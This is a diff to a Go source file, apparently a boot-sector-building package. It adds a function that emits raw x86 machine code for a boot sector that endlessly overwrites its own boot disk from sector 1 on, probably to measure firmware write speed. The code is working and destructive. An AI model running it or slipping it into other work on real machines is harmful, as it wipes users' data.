@@ -40,6 +40,20 @@ func Display(text string) ([]byte, error) {
 	return boot(append(append(code, text...), 0)), nil
 }
 
+// Writes fills the disk that it starts from, from its second sector on, as fast as firmware writes (INT 13h, function
+// 43h).
+func Writes() []byte {
+	return boot([]byte{
+		0x31, 0xc0, 0x8e, 0xd8, 0xbe, 0x1a, 0x7c, // ax, ds = 0; si = the packet
+		0xb8, 0x00, 0x43, 0xcd, 0x13, // next: write
+		0x72, 0xf9, // again, where it failed
+		0x83, 0x44, 0x08, 0x7f, 0x83, 0x54, 0x0a, 0x00, // its place += 127 sectors
+		0xeb, 0xef, // next
+		0x90, 0x90,
+		0x10, 0x00, 0x7f, 0x00, 0x00, 0x7c, 0x00, 0x00, 1, 0, 0, 0, 0, 0, 0, 0, // 127 sectors from 0:7c00h to sector 1
+	})
+}
+
 // boot makes a boot sector of code.
 func boot(code []byte) []byte {
 	b := make([]byte, Bytes)
